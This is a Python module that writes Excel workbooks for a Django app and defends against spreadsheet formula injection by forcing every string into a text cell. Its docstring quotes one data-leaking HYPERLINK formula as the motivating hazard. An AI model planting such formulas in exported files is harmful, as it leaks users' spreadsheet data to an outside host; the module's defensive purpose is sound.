"""Text in the workbooks the app writes stays text.

openpyxl turns any str that starts with "=" into a live formula (and "#N/A" into an error): a hazard
described as `=HYPERLINK("http://…/?leak="&B4, "点我查看")` became a link in every office's ledger.
Every str goes out as a string cell instead; one that Excel would read as a formula when the cell is
edited (= + - @, tab, CR) also gets the quote prefix, Excel's own "this is text" mark.
"""

from __future__ import annotations

import tempfile
from collections.abc import Sequence
from datetime import date, datetime
from typing import IO, Any

from django.utils import timezone
from openpyxl.cell import Cell, WriteOnlyCell
from openpyxl.cell.cell import ERROR_CODES, ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def as_text(cell: Cell | WriteOnlyCell) -> Cell | WriteOnlyCell:
    """Make a cell holding a str a string cell (never a formula or an error value); returns it."""
    if isinstance(cell.value, str):
        text = cell.value
        cell.data_type = "s"
        if text.startswith(FORMULA_TRIGGERS):
            cell.quotePrefix = True
    return cell


def text_cell(sheet: Any, value: str) -> WriteOnlyCell:
    """A write-only cell holding `value` as text; control characters Excel cannot store are dropped."""
    return as_text(WriteOnlyCell(sheet, value=ILLEGAL_CHARACTERS_RE.sub("", value)))


def sheet_value(sheet: Any, value: Any) -> Any:
    """`value` for a write-only sheet's append, every str landing as a string cell. openpyxl binds
    a plain str as a string unless it starts with "=" or is an error code (#N/A): only those, and
    those Excel would read as a formula when edited, need a cell of their own (cheaper at 50,000 rows)."""
    if not isinstance(value, str):
        return value
    if value.startswith(FORMULA_TRIGGERS) or value in ERROR_CODES:
        return text_cell(sheet, value)
    return ILLEGAL_CHARACTERS_RE.sub("", value)


def append_as_text(sheet: Any, values: list[Any]) -> None:
    """Append a row to a normal (not write-only) worksheet with every str written as text."""
    sheet.append([ILLEGAL_CHARACTERS_RE.sub("", value) if isinstance(value, str) else value for value in values])
    for cell in sheet[sheet.max_row]:
        as_text(cell)


def local_naive(value: datetime | None) -> datetime | None:
    """A datetime as Excel holds it: the wall-clock time of the project's zone, without a zone."""
    return timezone.localtime(value).replace(tzinfo=None) if value is not None else None


def sheet_heading(sheet: Any, title: str, header: Sequence[str]) -> None:
    """A write-only sheet's title on row 1 and its column names on row 2, both bold text; the
    panes freeze below them (a write-only sheet takes its layout before the first row)."""
    sheet.freeze_panes = "B3"
    heading: Any = text_cell(sheet, title)
    heading.font = Font(size=14, bold=True)
    sheet.append([heading])
    bold = Font(bold=True)
    cells = []
    for name in header:
        cell: Any = text_cell(sheet, name)
        cell.font = bold
        cells.append(cell)
    sheet.append(cells)


# The streaming writer -------------------------------------------------------------------------
# openpyxl's write-only mode builds an object per cell and took 48–59 s for 100,000 ledger rows;
# XlsxWriter in constant-memory mode writes each row to a temporary file as it comes, with the same
# layout, formats and text cells, in about half the time (bench/steps.py `export_writers`).


class StreamingSheet:
    """One worksheet written row after row (XlsxWriter, constant memory): layout first, then rows.
    Every str lands as a string cell (never a formula, the quote prefix where Excel would read one),
    dates and datetimes with the project's formats, None as an empty cell."""

    DATE = "yyyy-mm-dd"
    DATETIME = "yyyy-mm-dd hh:mm"

    def __init__(self, workbook: Any, title: str) -> None:
        self.workbook = workbook
        self.sheet = workbook.add_worksheet(ILLEGAL_CHARACTERS_RE.sub("", title)[:31])
        self.row = 0
        self._formats: dict[tuple[tuple[str, Any], ...], Any] = {}

    def style(self, **properties: Any) -> Any:
        """An XlsxWriter format with these properties, made once per workbook."""
        key = tuple(sorted(properties.items()))
        if key not in self._formats:
            self._formats[key] = self.workbook.add_format(properties)
        return self._formats[key]

    def widths(self, widths: Sequence[float]) -> None:
        for column, width in enumerate(widths):
            self.sheet.set_column(column, column, width)

    def freeze(self, rows: int, columns: int = 0) -> None:
        self.sheet.freeze_panes(rows, columns)

    def merged(self, text: str, columns: int, **properties: Any) -> None:
        """A row whose text spans `columns` columns."""
        self.sheet.merge_range(self.row, 0, self.row, columns - 1, "", self.style(**properties))
        self.sheet.write_string(self.row, 0, ILLEGAL_CHARACTERS_RE.sub("", text), self.style(**properties))
        self.row += 1

    def heading(self, title: str, header: Sequence[str]) -> None:
        """sheet_heading's layout: the title on row 1 and the column names on row 2, both bold text
        (a quote prefix where Excel would read a formula), the panes frozen below them."""
        self.freeze(2, 1)
        for texts, properties in (([title], {"bold": True, "font_size": 14}), (header, {"bold": True})):
            for column, text in enumerate(texts):
                text = ILLEGAL_CHARACTERS_RE.sub("", text)
                quoted = text.startswith(FORMULA_TRIGGERS)
                style = self.style(**properties, quote_prefix=True) if quoted else self.style(**properties)
                self.sheet.write_string(self.row, column, text, style)
            self.row += 1

    def append(self, values: Sequence[Any], style: Any = None) -> None:
        write = self.sheet
        row = self.row
        for column, value in enumerate(values):
            if value is None:
                if style is not None:
                    write.write_blank(row, column, None, style)
            elif isinstance(value, str):
                text = ILLEGAL_CHARACTERS_RE.sub("", value)
                quoted = text.startswith(FORMULA_TRIGGERS)
                write.write_string(row, column, text, self.style(quote_prefix=True) if quoted else style)
            elif isinstance(value, bool):
                write.write_boolean(row, column, value, style)
            elif isinstance(value, datetime):
                write.write_datetime(row, column, value, self.style(num_format=self.DATETIME))
            elif isinstance(value, date):
                write.write_datetime(row, column, value, self.style(num_format=self.DATE))
            else:
                write.write_number(row, column, value, style)
        self.row += 1


def streaming_workbook(out: IO[bytes], *, constant_memory: bool = True) -> Any:
    """An XlsxWriter workbook writing to `out`, reading no str as a formula, a number or a link: in
    constant-memory mode (each row to a temporary file), or for a small workbook in memory (about a
    third less time than temporary files for a few hundred rows, half of openpyxl's write-only)."""
    import xlsxwriter

    return xlsxwriter.Workbook(
        out,
        {
            "constant_memory": constant_memory,
            "in_memory": not constant_memory,
            "strings_to_formulas": False,
            "strings_to_numbers": False,
            "strings_to_urls": False,
            "tmpdir": tempfile.gettempdir(),
        },
    )
